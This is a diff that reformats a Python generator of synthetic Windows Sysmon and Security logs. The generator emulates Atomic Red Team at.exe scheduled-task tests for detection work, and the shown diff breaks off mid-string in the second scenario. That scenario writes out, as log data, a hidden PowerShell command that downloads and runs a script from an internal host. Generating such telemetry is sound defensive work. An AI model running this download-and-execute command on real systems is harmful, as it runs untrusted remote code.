@@ -27,7 +27,10 @@ HERE = Path(__file__).resolve().parent
 SYSMON = "Microsoft-Windows-Sysmon/Operational"
 SECURITY = "Security"
 SYSMON_PROVIDER = ("Microsoft-Windows-Sysmon", "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}")
-SECURITY_PROVIDER = ("Microsoft-Windows-Security-Auditing", "{54849625-5478-4994-A5BA-3E3B0328C30D}")
+SECURITY_PROVIDER = (
+    "Microsoft-Windows-Security-Auditing",
+    "{54849625-5478-4994-A5BA-3E3B0328C30D}",
+)
 SCHEDULE_SVCHOST = r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule"
 SYSTEM32 = "C:\\Windows\\System32\\"
 
@@ -48,7 +51,10 @@ class Host:
         self.splunk_host = splunk_host
         self.guid_prefix = "%08x" % rng.getrandbits(32)
         self.sid_domain = sid_domain
-        self.records = {SYSMON: rng.randint(180000, 240000), SECURITY: rng.randint(2100000, 3400000)}
+        self.records = {
+            SYSMON: rng.randint(180000, 240000),
+            SECURITY: rng.randint(2100000, 3400000),
+        }
         self.next_pid = rng.randint(3000, 9000)
 
     def record(self, channel):
@@ -98,41 +104,120 @@ def guid(host, when):
 
 IMAGE_META = {
     # image file name -> FileVersion, Description, Product, Company, OriginalFileName
-    "at.exe": ("10.0.19041.1 (WinBuild.160101.0800)", "Schedule service command line interface",
-               "Microsoft® Windows® Operating System", "Microsoft Corporation", "AT.EXE"),
-    "cmd.exe": ("10.0.19041.4355 (WinBuild.160101.0800)", "Windows Command Processor",
-                "Microsoft® Windows® Operating System", "Microsoft Corporation", "Cmd.Exe"),
-    "powershell.exe": ("10.0.19041.3996 (WinBuild.160101.0800)", "Windows PowerShell",
-                       "Microsoft® Windows® Operating System", "Microsoft Corporation",
-                       "PowerShell.EXE"),
+    "at.exe": (
+        "10.0.19041.1 (WinBuild.160101.0800)",
+        "Schedule service command line interface",
+        "Microsoft® Windows® Operating System",
+        "Microsoft Corporation",
+        "AT.EXE",
+    ),
+    "cmd.exe": (
+        "10.0.19041.4355 (WinBuild.160101.0800)",
+        "Windows Command Processor",
+        "Microsoft® Windows® Operating System",
+        "Microsoft Corporation",
+        "Cmd.Exe",
+    ),
+    "powershell.exe": (
+        "10.0.19041.3996 (WinBuild.160101.0800)",
+        "Windows PowerShell",
+        "Microsoft® Windows® Operating System",
+        "Microsoft Corporation",
+        "PowerShell.EXE",
+    ),
     "pwsh.exe": ("7.4.6.500", "pwsh", "PowerShell", "Microsoft Corporation", "pwsh.dll"),
-    "wmic.exe": ("10.0.19041.3636 (WinBuild.160101.0800)", "WMI Commandline Utility",
-                 "Microsoft® Windows® Operating System", "Microsoft Corporation", "wmic.exe"),
-    "whoami.exe": ("10.0.19041.1 (WinBuild.160101.0800)", "whoami - displays logged on user information",
-                   "Microsoft® Windows® Operating System", "Microsoft Corporation", "whoami.exe"),
-    "svchost.exe": ("10.0.19041.4355 (WinBuild.160101.0800)", "Host Process for Windows Services",
-                    "Microsoft® Windows® Operating System", "Microsoft Corporation", "svchost.exe"),
-    "explorer.exe": ("10.0.19041.4474 (WinBuild.160101.0800)", "Windows Explorer",
-                     "Microsoft® Windows® Operating System", "Microsoft Corporation", "EXPLORER.EXE"),
+    "wmic.exe": (
+        "10.0.19041.3636 (WinBuild.160101.0800)",
+        "WMI Commandline Utility",
+        "Microsoft® Windows® Operating System",
+        "Microsoft Corporation",
+        "wmic.exe",
+    ),
+    "whoami.exe": (
+        "10.0.19041.1 (WinBuild.160101.0800)",
+        "whoami - displays logged on user information",
+        "Microsoft® Windows® Operating System",
+        "Microsoft Corporation",
+        "whoami.exe",
+    ),
+    "svchost.exe": (
+        "10.0.19041.4355 (WinBuild.160101.0800)",
+        "Host Process for Windows Services",
+        "Microsoft® Windows® Operating System",
+        "Microsoft Corporation",
+        "svchost.exe",
+    ),
+    "explorer.exe": (
+        "10.0.19041.4474 (WinBuild.160101.0800)",
+        "Windows Explorer",
+        "Microsoft® Windows® Operating System",
+        "Microsoft Corporation",
+        "EXPLORER.EXE",
+    ),
     "chrome.exe": ("131.0.6778.140", "Google Chrome", "Google Chrome", "Google LLC", "chrome.exe"),
-    "schtasks.exe": ("10.0.19041.4239 (WinBuild.160101.0800)", "Task Scheduler Configuration Tool",
-                     "Microsoft® Windows® Operating System", "Microsoft Corporation", "schtasks.exe"),
-    "conhost.exe": ("10.0.19041.4355 (WinBuild.160101.0800)", "Console Window Host",
-                    "Microsoft® Windows® Operating System", "Microsoft Corporation", "CONHOST.EXE"),
-    "taskhostw.exe": ("10.0.19041.4355 (WinBuild.160101.0800)", "Host Process for Windows Tasks",
-                      "Microsoft® Windows® Operating System", "Microsoft Corporation", "taskhostw.exe"),
-    "OneDrive.exe": ("24.226.1110.0004", "Microsoft OneDrive", "Microsoft OneDrive",
-                     "Microsoft Corporation", "OneDrive.exe"),
-    "ms-teams.exe": ("24295.605.3225.8804", "Microsoft Teams", "Microsoft Teams",
-                     "Microsoft Corporation", "ms-teams.exe"),
-    "MpCmdRun.exe": ("4.18.24090.11 (WinBuild.160101.0800)", "Microsoft Malware Protection Command Line Utility",
-                     "Microsoft® Windows® Operating System", "Microsoft Corporation", "MpCmdRun.exe"),
-    "gpupdate.exe": ("10.0.19041.1 (WinBuild.160101.0800)", "Microsoft® Windows Group Policy Update Utility",
-                     "Microsoft® Windows® Operating System", "Microsoft Corporation", "GPUpdate.exe"),
-    "notepad.exe": ("10.0.19041.3996 (WinBuild.160101.0800)", "Notepad",
-                    "Microsoft® Windows® Operating System", "Microsoft Corporation", "NOTEPAD.EXE"),
-    "WmiPrvSE.exe": ("10.0.19041.3636 (WinBuild.160101.0800)", "WMI Provider Host",
-                     "Microsoft® Windows® Operating System", "Microsoft Corporation", "Wmiprvse.exe"),
+    "schtasks.exe": (
+        "10.0.19041.4239 (WinBuild.160101.0800)",
+        "Task Scheduler Configuration Tool",
+        "Microsoft® Windows® Operating System",
+        "Microsoft Corporation",
+        "schtasks.exe",
+    ),
+    "conhost.exe": (
+        "10.0.19041.4355 (WinBuild.160101.0800)",
+        "Console Window Host",
+        "Microsoft® Windows® Operating System",
+        "Microsoft Corporation",
+        "CONHOST.EXE",
+    ),
+    "taskhostw.exe": (
+        "10.0.19041.4355 (WinBuild.160101.0800)",
+        "Host Process for Windows Tasks",
+        "Microsoft® Windows® Operating System",
+        "Microsoft Corporation",
+        "taskhostw.exe",
+    ),
+    "OneDrive.exe": (
+        "24.226.1110.0004",
+        "Microsoft OneDrive",
+        "Microsoft OneDrive",
+        "Microsoft Corporation",
+        "OneDrive.exe",
+    ),
+    "ms-teams.exe": (
+        "24295.605.3225.8804",
+        "Microsoft Teams",
+        "Microsoft Teams",
+        "Microsoft Corporation",
+        "ms-teams.exe",
+    ),
+    "MpCmdRun.exe": (
+        "4.18.24090.11 (WinBuild.160101.0800)",
+        "Microsoft Malware Protection Command Line Utility",
+        "Microsoft® Windows® Operating System",
+        "Microsoft Corporation",
+        "MpCmdRun.exe",
+    ),
+    "gpupdate.exe": (
+        "10.0.19041.1 (WinBuild.160101.0800)",
+        "Microsoft® Windows Group Policy Update Utility",
+        "Microsoft® Windows® Operating System",
+        "Microsoft Corporation",
+        "GPUpdate.exe",
+    ),
+    "notepad.exe": (
+        "10.0.19041.3996 (WinBuild.160101.0800)",
+        "Notepad",
+        "Microsoft® Windows® Operating System",
+        "Microsoft Corporation",
+        "NOTEPAD.EXE",
+    ),
+    "WmiPrvSE.exe": (
+        "10.0.19041.3636 (WinBuild.160101.0800)",
+        "WMI Provider Host",
+        "Microsoft® Windows® Operating System",
+        "Microsoft Corporation",
+        "Wmiprvse.exe",
+    ),
 }
 
 
@@ -156,8 +241,18 @@ def hashes(image, original):
 class Process:
     """A running process: enough to render Sysmon 1 and Security 4688 for its creation."""
 
-    def __init__(self, host, when, image, command_line, parent, user, cwd=None, file_meta=None,
-                 integrity=None):
+    def __init__(
+        self,
+        host,
+        when,
+        image,
+        command_line,
+        parent,
+        user,
+        cwd=None,
+        file_meta=None,
+        integrity=None,
+    ):
         self.host = host
         self.when = when
         self.image = image
@@ -184,8 +279,21 @@ def root_process(host, image, command_line, user, when):
 class Event:
     """A Windows event: System values and ordered EventData, plus the tags used by README."""
 
-    def __init__(self, host, channel, eid, when, data, version, task, level=4,
-                 keywords="0x8000000000000000", execution=None, user_sid=None, tag="benign"):
+    def __init__(
+        self,
+        host,
+        channel,
+        eid,
+        when,
+        data,
+        version,
+        task,
+        level=4,
+        keywords="0x8000000000000000",
+        execution=None,
+        user_sid=None,
+        tag="benign",
+    ):
         self.host = host
         self.channel = channel
         self.eid = eid
@@ -207,7 +315,11 @@ class Event:
 
 def system_time(when):
     """SystemTime with seven fractional digits, as Windows writes it."""
-    return when.strftime("%Y-%m-%dT%H:%M:%S.") + "%06d%d" % (when.microsecond, when.microsecond % 7) + "Z"
+    return (
+        when.strftime("%Y-%m-%dT%H:%M:%S.")
+        + "%06d%d" % (when.microsecond, when.microsecond % 7)
+        + "Z"
+    )
 
 
 def ms_time(when):
@@ -240,7 +352,10 @@ def sysmon_1(proc, tag="benign"):
         ("CommandLine", proc.command_line),
         ("CurrentDirectory", proc.cwd),
         ("User", proc.user.qualified),
-        ("LogonGuid", proc.user.logon_guid or "{%s-0000-0000-e703-000000000000}" % proc.host.guid_prefix),
+        (
+            "LogonGuid",
+            proc.user.logon_guid or "{%s-0000-0000-e703-000000000000}" % proc.host.guid_prefix,
+        ),
         ("LogonId", hexid(proc.user.logon_id)),
         ("TerminalSessionId", "0" if proc.user is SYSTEM_USER else "1"),
         ("IntegrityLevel", proc.integrity),
@@ -253,8 +368,18 @@ def sysmon_1(proc, tag="benign"):
     ]
     # Whole milliseconds, so the sub-millisecond part stays clear of rounding edges.
     logged = proc.when + dt.timedelta(milliseconds=rng.randint(1, 3))
-    return Event(proc.host, SYSMON, 1, logged, data, 5, 1, execution=sysmon_exec(proc.host),
-                 user_sid="S-1-5-18", tag=tag)
+    return Event(
+        proc.host,
+        SYSMON,
+        1,
+        logged,
+        data,
+        5,
+        1,
+        execution=sysmon_exec(proc.host),
+        user_sid="S-1-5-18",
+        tag=tag,
+    )
 
 
 def sysmon_11(host, when, proc, target, tag="benign"):
@@ -269,8 +394,18 @@ def sysmon_11(host, when, proc, target, tag="benign"):
         ("User", proc.user.qualified),
     ]
     logged = when + dt.timedelta(milliseconds=rng.randint(1, 2))
-    return Event(host, SYSMON, 11, logged, data, 2, 11, execution=sysmon_exec(host),
-                 user_sid="S-1-5-18", tag=tag)
+    return Event(
+        host,
+        SYSMON,
+        11,
+        logged,
+        data,
+        2,
+        11,
+        execution=sysmon_exec(host),
+        user_sid="S-1-5-18",
+        tag=tag,
+    )
 
 
 ELEVATION = {"High": "%%1937", "System": "%%1936", "Medium": "%%1938"}
@@ -279,15 +414,29 @@ SECURITY_KEYWORDS = "0x8020000000000000"
 
 
 def security_event(host, eid, when, data, version, task, tag):
-    return Event(host, SECURITY, eid, when, data, version, task, level=0,
-                 keywords=SECURITY_KEYWORDS, execution=(4, rng.randint(100, 9000)), tag=tag)
+    return Event(
+        host,
+        SECURITY,
+        eid,
+        when,
+        data,
+        version,
+        task,
+        level=0,
+        keywords=SECURITY_KEYWORDS,
+        execution=(4, rng.randint(100, 9000)),
+        tag=tag,
+    )
 
 
 def security_4688(proc, tag="benign"):
     creator = proc.parent
     data = [
         ("SubjectUserSid", proc.user.sid),
-        ("SubjectUserName", proc.user.name if proc.user is not SYSTEM_USER else proc.host.short + "$"),
+        (
+            "SubjectUserName",
+            proc.user.name if proc.user is not SYSTEM_USER else proc.host.short + "$",
+        ),
         ("SubjectDomainName", proc.user.domain if proc.user is not SYSTEM_USER else "KESTREL"),
         ("SubjectLogonId", hexid(proc.user.logon_id)),
         ("NewProcessId", hexid(proc.pid)),
@@ -305,8 +454,15 @@ def security_4688(proc, tag="benign"):
     return security_event(proc.host, 4688, proc.when, data, 2, 13312, tag)
 
 
-def security_4624(host, when, user, logon_type, process_name="C:\\Windows\\System32\\svchost.exe",
-                  ip="-", port="-"):
+def security_4624(
+    host,
+    when,
+    user,
+    logon_type,
+    process_name="C:\\Windows\\System32\\svchost.exe",
+    ip="-",
+    port="-",
+):
     data = [
         ("SubjectUserSid", "S-1-5-18"),
         ("SubjectUserName", host.short + "$"),
@@ -320,13 +476,21 @@ def security_4624(host, when, user, logon_type, process_name="C:\\Windows\\Syste
         ("LogonProcessName", "User32 " if logon_type in (2, 7, 10) else "Kerberos"),
         ("AuthenticationPackageName", "Negotiate" if logon_type in (2, 7, 10) else "Kerberos"),
         ("WorkstationName", host.short),
-        ("LogonGuid", "{%08x-%04x-%04x-%04x-%012x}" % (rng.getrandbits(32), rng.getrandbits(16),
-                                                      rng.getrandbits(16), rng.getrandbits(16),
-                                                      rng.getrandbits(48))),
+        (
+            "LogonGuid",
+            "{%08x-%04x-%04x-%04x-%012x}"
+            % (
+                rng.getrandbits(32),
+                rng.getrandbits(16),
+                rng.getrandbits(16),
+                rng.getrandbits(16),
+                rng.getrandbits(48),
+            ),
+        ),
         ("TransmittedServices", "-"),
         ("LmPackageName", "-"),
         ("KeyLength", "0"),
-        ("ProcessId", hexid(rng.choice([0x2d8, 0x3a4, 0x26c]))),
+        ("ProcessId", hexid(rng.choice([0x2D8, 0x3A4, 0x26C]))),
         ("ProcessName", process_name),
         ("IpAddress", ip),
         ("IpPort", port),
@@ -341,10 +505,17 @@ def security_4624(host, when, user, logon_type, process_name="C:\\Windows\\Syste
     return security_event(host, 4624, when, data, 2, 12544, "benign")
 
 
-PRIVILEGES = ["SeSecurityPrivilege", "SeTakeOwnershipPrivilege", "SeLoadDriverPrivilege",
-              "SeBackupPrivilege", "SeRestorePrivilege", "SeDebugPrivilege",
-              "SeSystemEnvironmentPrivilege", "SeImpersonatePrivilege",
-              "SeDelegateSessionUserImpersonatePrivilege"]
+PRIVILEGES = [
+    "SeSecurityPrivilege",
+    "SeTakeOwnershipPrivilege",
+    "SeLoadDriverPrivilege",
+    "SeBackupPrivilege",
+    "SeRestorePrivilege",
+    "SeDebugPrivilege",
+    "SeSystemEnvironmentPrivilege",
+    "SeImpersonatePrivilege",
+    "SeDelegateSessionUserImpersonatePrivilege",
+]
 
 
 def security_4672(host, when, user):
@@ -403,8 +574,9 @@ TASK_XML = """<?xml version="1.0" encoding="UTF-16"?>
 
 
 def security_4698(host, when, user, name, start, command, arguments, client_pid):
-    content = TASK_XML.format(name=name, start=start, command=escape(command),
-                              arguments=escape(arguments)).replace("\n", "\r\n")
+    content = TASK_XML.format(
+        name=name, start=start, command=escape(command), arguments=escape(arguments)
+    ).replace("\n", "\r\n")
     data = [
         ("SubjectUserSid", user.sid),
         ("SubjectUserName", user.name),
@@ -412,7 +584,7 @@ def security_4698(host, when, user, name, start, command, arguments, client_pid)
         ("SubjectLogonId", hexid(user.logon_id)),
         ("TaskName", "\\" + name),
         ("TaskContent", content),
-        ("ClientProcessStartKey", str(rng.randint(10 ** 15, 10 ** 16))),
+        ("ClientProcessStartKey", str(rng.randint(10**15, 10**16))),
         ("ClientProcessId", str(client_pid)),
         ("ParentProcessId", str(rng.randint(600, 1200))),
         ("RpcCallClientLocality", "0"),
@@ -444,19 +616,42 @@ class Scenario:
         self.base = base
         self.user = user
         self.events = []
-        self.session = root_process(host, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE",
-                                    user, base - dt.timedelta(hours=3))
-        self.services = root_process(host, "C:\\Windows\\System32\\services.exe",
-                                     "C:\\Windows\\system32\\services.exe", SYSTEM_USER,
-                                     base - dt.timedelta(days=2))
-        self.schedule = Process(host, base - dt.timedelta(days=2), "C:\\Windows\\System32\\svchost.exe",
-                                SCHEDULE_SVCHOST, self.services, SYSTEM_USER)
+        self.session = root_process(
+            host,
+            "C:\\Windows\\explorer.exe",
+            "C:\\Windows\\Explorer.EXE",
+            user,
+            base - dt.timedelta(hours=3),
+        )
+        self.services = root_process(
+            host,
+            "C:\\Windows\\System32\\services.exe",
+            "C:\\Windows\\system32\\services.exe",
+            SYSTEM_USER,
+            base - dt.timedelta(days=2),
+        )
+        self.schedule = Process(
+            host,
+            base - dt.timedelta(days=2),
+            "C:\\Windows\\System32\\svchost.exe",
+            SCHEDULE_SVCHOST,
+            self.services,
+            SYSTEM_USER,
+        )
 
-    def spawn(self, seconds, image, command_line, parent, user=None, tag="benign", security=True,
-              **extra):
+    def spawn(
+        self, seconds, image, command_line, parent, user=None, tag="benign", security=True, **extra
+    ):
         """A process creation seen by Sysmon 1 and, when audited, Security 4688."""
-        proc = Process(self.host, at(self.base, seconds), image, command_line, parent,
-                       user or self.user, **extra)
+        proc = Process(
+            self.host,
+            at(self.base, seconds),
+            image,
+            command_line,
+            parent,
+            user or self.user,
+            **extra
+        )
         self.events.append(sysmon_1(proc, tag))
         if security:
             self.events.append(security_4688(proc, tag))
@@ -474,40 +669,98 @@ def benign_background(scn, start, end, count):
     user = scn.user
     chrome = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
     templates = [
-        lambda t: scn.spawn(t, chrome, '"%s" --type=renderer --lang=en-US --renderer-client-id=%d '
-                            '--time-ticks-at-unix-epoch=-1773%09d --launch-time-ticks=%d --field-trial-handle=1948,i,'
-                            '%d,%d,262144 /prefetch:1' % (chrome, rng.randint(5, 90), rng.getrandbits(28),
-                                                          rng.getrandbits(34), rng.getrandbits(60),
-                                                          rng.getrandbits(60)), scn.session),
-        lambda t: scn.spawn(t, "C:\\Windows\\System32\\svchost.exe",
-                            "C:\\Windows\\system32\\svchost.exe -k %s" % rng.choice(
-                                ["netsvcs -p -s BITS", "LocalService -p -s FontCache",
-                                 "UnistackSvcGroup -s WpnUserService_%05x" % rng.getrandbits(20),
-                                 "LocalSystemNetworkRestricted -p -s SysMain", "wsappx -p -s ClipSVC"]),
-                            scn.services, user=SYSTEM_USER),
-        lambda t: scn.spawn(t, "C:\\Windows\\System32\\schtasks.exe", "schtasks  /query /fo LIST /v",
-                            scn.spawn(t - 0.4, SYSTEM32 + "cmd.exe", '"C:\\Windows\\system32\\cmd.exe" ',
-                                      scn.session)),
-        lambda t: scn.spawn(t, SYSTEM32 + "wbem\\WMIC.exe", "wmic  os get Caption,Version,BuildNumber /value",
-                            scn.spawn(t - 0.7, SYSTEM32 + "cmd.exe", '"C:\\Windows\\system32\\cmd.exe" ',
-                                      scn.session)),
-        lambda t: scn.spawn(t, SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe",
-                            'powershell.exe -NoProfile -Command "Get-Process | Sort-Object CPU -Descending '
-                            '| Select-Object -First 10"', scn.session),
-        lambda t: scn.spawn(t, SYSTEM32 + "taskhostw.exe", "taskhostw.exe -RegisterDevice -ProtectionStateChanged",
-                            scn.schedule, user=SYSTEM_USER),
-        lambda t: scn.spawn(t, "C:\\Users\\%s\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" % user.name,
-                            '"C:\\Users\\%s\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /updateInstalled '
-                            '/background' % user.name, scn.session, integrity="Medium"),
-        lambda t: scn.spawn(t, "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MpCmdRun.exe",
-                            '"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MpCmdRun.exe"'
-                            ' -wdenable', scn.services, user=SYSTEM_USER),
-        lambda t: scn.spawn(t, SYSTEM32 + "gpupdate.exe", "gpupdate.exe /target:computer /force",
-                            scn.session),
-        lambda t: scn.add(sysmon_11(scn.host, at(scn.base, t), root_process(
-            scn.host, chrome, '"%s" ' % chrome, user, scn.base - dt.timedelta(hours=1)),
-            "C:\\Users\\%s\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cache\\Cache_Data\\f_%06x"
-            % (user.name, rng.getrandbits(20)))),
+        lambda t: scn.spawn(
+            t,
+            chrome,
+            '"%s" --type=renderer --lang=en-US --renderer-client-id=%d '
+            "--time-ticks-at-unix-epoch=-1773%09d --launch-time-ticks=%d --field-trial-handle=1948,i,"
+            "%d,%d,262144 /prefetch:1"
+            % (
+                chrome,
+                rng.randint(5, 90),
+                rng.getrandbits(28),
+                rng.getrandbits(34),
+                rng.getrandbits(60),
+                rng.getrandbits(60),
+            ),
+            scn.session,
+        ),
+        lambda t: scn.spawn(
+            t,
+            "C:\\Windows\\System32\\svchost.exe",
+            "C:\\Windows\\system32\\svchost.exe -k %s"
+            % rng.choice(
+                [
+                    "netsvcs -p -s BITS",
+                    "LocalService -p -s FontCache",
+                    "UnistackSvcGroup -s WpnUserService_%05x" % rng.getrandbits(20),
+                    "LocalSystemNetworkRestricted -p -s SysMain",
+                    "wsappx -p -s ClipSVC",
+                ]
+            ),
+            scn.services,
+            user=SYSTEM_USER,
+        ),
+        lambda t: scn.spawn(
+            t,
+            "C:\\Windows\\System32\\schtasks.exe",
+            "schtasks  /query /fo LIST /v",
+            scn.spawn(
+                t - 0.4, SYSTEM32 + "cmd.exe", '"C:\\Windows\\system32\\cmd.exe" ', scn.session
+            ),
+        ),
+        lambda t: scn.spawn(
+            t,
+            SYSTEM32 + "wbem\\WMIC.exe",
+            "wmic  os get Caption,Version,BuildNumber /value",
+            scn.spawn(
+                t - 0.7, SYSTEM32 + "cmd.exe", '"C:\\Windows\\system32\\cmd.exe" ', scn.session
+            ),
+        ),
+        lambda t: scn.spawn(
+            t,
+            SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe",
+            'powershell.exe -NoProfile -Command "Get-Process | Sort-Object CPU -Descending '
+            '| Select-Object -First 10"',
+            scn.session,
+        ),
+        lambda t: scn.spawn(
+            t,
+            SYSTEM32 + "taskhostw.exe",
+            "taskhostw.exe -RegisterDevice -ProtectionStateChanged",
+            scn.schedule,
+            user=SYSTEM_USER,
+        ),
+        lambda t: scn.spawn(
+            t,
+            "C:\\Users\\%s\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" % user.name,
+            '"C:\\Users\\%s\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /updateInstalled '
+            "/background" % user.name,
+            scn.session,
+            integrity="Medium",
+        ),
+        lambda t: scn.spawn(
+            t,
+            "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MpCmdRun.exe",
+            '"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MpCmdRun.exe"'
+            " -wdenable",
+            scn.services,
+            user=SYSTEM_USER,
+        ),
+        lambda t: scn.spawn(
+            t, SYSTEM32 + "gpupdate.exe", "gpupdate.exe /target:computer /force", scn.session
+        ),
+        lambda t: scn.add(
+            sysmon_11(
+                scn.host,
+                at(scn.base, t),
+                root_process(
+                    scn.host, chrome, '"%s" ' % chrome, user, scn.base - dt.timedelta(hours=1)
+                ),
+                "C:\\Users\\%s\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cache\\Cache_Data\\f_%06x"
+                % (user.name, rng.getrandbits(20)),
+            )
+        ),
         lambda t: logon_burst(scn, t),
     ]
     step = (end - start) / count
@@ -518,34 +771,80 @@ def benign_background(scn, start, end, count):
 
 def logon_burst(scn, t):
     """A network logon of the machine account with its special privileges, then the logoff."""
-    machine = User("KESTREL", scn.host.short + "$", KESTREL + "-%d" % rng.randint(1100, 1400),
-                   rng.randint(0x100000, 0xFFFFFF))
-    scn.add(security_4624(scn.host, at(scn.base, t), machine, 3, "-", "10.20.0.%d" % rng.randint(10, 30),
-                          str(rng.randint(49152, 65535))))
+    machine = User(
+        "KESTREL",
+        scn.host.short + "$",
+        KESTREL + "-%d" % rng.randint(1100, 1400),
+        rng.randint(0x100000, 0xFFFFFF),
+    )
+    scn.add(
+        security_4624(
+            scn.host,
+            at(scn.base, t),
+            machine,
+            3,
+            "-",
+            "10.20.0.%d" % rng.randint(10, 30),
+            str(rng.randint(49152, 65535)),
+        )
+    )
     scn.add(security_4672(scn.host, at(scn.base, t + 0.001), machine))
     scn.add(security_4634(scn.host, at(scn.base, t + 2.5), machine))
 
 
 def runner_shell(scn, seconds, command):
     """The Atomic Red Team runner: PowerShell in the user's session starting cmd.exe /c <test>."""
-    ps = scn.spawn(seconds - 1.8, SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe",
-                   '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" ', scn.session)
+    ps = scn.spawn(
+        seconds - 1.8,
+        SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe",
+        '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" ',
+        scn.session,
+    )
     return scn.spawn(seconds - 0.6, SYSTEM32 + "cmd.exe", '"cmd.exe" /c "%s"' % command, ps)
 
 
 def job_runs(scn, seconds, command_image, command_line, task, start, client_pid, run_after):
     """The Task Scheduler side: At job file and task registered, then the job started by svchost."""
     schedule = scn.schedule
-    scn.add(sysmon_11(scn.host, at(scn.base, seconds + 0.05), schedule,
-                      "C:\\Windows\\Tasks\\%s.job" % task, tag="execution"))
+    scn.add(
+        sysmon_11(
+            scn.host,
+            at(scn.base, seconds + 0.05),
+            schedule,
+            "C:\\Windows\\Tasks\\%s.job" % task,
+            tag="execution",
+        )
+    )
     command, _, arguments = command_line.partition(" ")
-    scn.add(security_4698(scn.host, at(scn.base, seconds + 0.06), scn.user, task, start, command,
-                          arguments, client_pid))
-    job = scn.spawn(seconds + run_after, command_image, command_line, schedule, user=SYSTEM_USER,
-                    tag="execution")
+    scn.add(
+        security_4698(
+            scn.host,
+            at(scn.base, seconds + 0.06),
+            scn.user,
+            task,
+            start,
+            command,
+            arguments,
+            client_pid,
+        )
+    )
+    job = scn.spawn(
+        seconds + run_after,
+        command_image,
+        command_line,
+        schedule,
+        user=SYSTEM_USER,
+        tag="execution",
+    )
     if "whoami" in command_line:
-        scn.spawn(seconds + run_after + 0.03, SYSTEM32 + "whoami.exe", "whoami", job, user=SYSTEM_USER,
-                  tag="execution")
+        scn.spawn(
+            seconds + run_after + 0.03,
+            SYSTEM32 + "whoami.exe",
+            "whoami",
+            job,
+            user=SYSTEM_USER,
+            tag="execution",
+        )
     return job
 
 
@@ -557,15 +856,21 @@ def build_scenarios():
     lindqvist = User("KESTREL", "adm.lindqvist", KESTREL + "-1562", 0x5B10D7E)
     reyes = User("KESTREL", "j.reyes", KESTREL + "-1309", 0x1C07A92)
     for user, host in ((okafor, fin), (lindqvist, app), (reyes, eng)):
-        user.logon_guid = "{%s-%04x-%04x-%04x-000000000000}" % (host.guid_prefix, rng.getrandbits(16),
-                                                                rng.getrandbits(16), rng.getrandbits(16))
+        user.logon_guid = "{%s-%04x-%04x-%04x-000000000000}" % (
+            host.guid_prefix,
+            rng.getrandbits(16),
+            rng.getrandbits(16),
+            rng.getrandbits(16),
+        )
     at_exe = SYSTEM32 + "at.exe"
     cmd_exe = SYSTEM32 + "cmd.exe"
     ps_exe = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
     scenarios = []
 
     # Test 1: at.exe scheduling cmd (Atomic Red Team T1053.002 #1 and the /every form).
-    s = Scenario("at-cmd", "at.exe scheduling cmd.exe", fin, dt.datetime(2026, 3, 10, 13, 2, 0), okafor)
+    s = Scenario(
+        "at-cmd", "at.exe scheduling cmd.exe", fin, dt.datetime(2026, 3, 10, 13, 2, 0), okafor
+    )
     benign_background(s, 0, 180, 4)
     shell = runner_shell(s, 190.5, "at 13:20 /interactive cmd")
     first = s.spawn(190.5, at_exe, "at  13:20 /interactive cmd", shell, tag="attack")
@@ -573,84 +878,212 @@ def build_scenarios():
     benign_background(s, 200, 420, 4)
     shell = runner_shell(s, 431.25, 'at.exe 09:00 /every:M,T "cmd.exe /c whoami"')
     s.spawn(431.25, at_exe, 'at.exe 09:00 /every:M,T "cmd.exe /c whoami"', shell, tag="attack")
-    s.add(sysmon_11(fin, at(s.base, 431.31), s.schedule, "C:\\Windows\\Tasks\\At2.job", tag="execution"))
+    s.add(
+        sysmon_11(
+            fin, at(s.base, 431.31), s.schedule, "C:\\Windows\\Tasks\\At2.job", tag="execution"
+        )
+    )
     benign_background(s, 440, 880, 4)
-    s.spawn(886.2, at_exe, "at", s.spawn(885.1, cmd_exe, '"C:\\Windows\\system32\\cmd.exe" ', s.session),
-            tag="attack")
+    s.spawn(
+        886.2,
+        at_exe,
+        "at",
+        s.spawn(885.1, cmd_exe, '"C:\\Windows\\system32\\cmd.exe" ', s.session),
+        tag="attack",
+    )
     benign_background(s, 1090, 1300, 3)
     scenarios.append(s)
 
     # Test 2: at.exe scheduling PowerShell.
-    s = Scenario("at-powershell", "at.exe scheduling powershell.exe", fin,
-                 dt.datetime(2026, 3, 11, 9, 40, 0), okafor)
+    s = Scenario(
+        "at-powershell",
+        "at.exe scheduling powershell.exe",
+        fin,
+        dt.datetime(2026, 3, 11, 9, 40, 0),
+        okafor,
+    )
     benign_background(s, 0, 200, 4)
-    shell = runner_shell(s, 212.4, "at 10:05 powershell.exe -nop -w hidden -c \"IEX (New-Object "
-                                   "Net.WebClient).DownloadString('http://10.20.4.17/a.ps1')\"")
-    first = s.spawn(212.4, at_exe, "at  10:05 powershell.exe -nop -w hidden -c \"IEX (New-Object "
-                                   "Net.WebClient).DownloadString('http://10.20.4.17/a.ps1')\"", shell,
-                    tag="attack")
-    job_runs(s, 212.5, ps_exe, "powershell.exe -nop -w hidden -c \"IEX (New-Object "
-                               "Net.WebClient).DownloadString('http://10.20.4.17/a.ps1')\"",
-             "At1", "2026-03-11T10:05:00", first.pid, 1287.64)
+    shell = runner_shell(
+        s,
+        212.4,
+        'at 10:05 powershell.exe -nop -w hidden -c "IEX (New-Object '
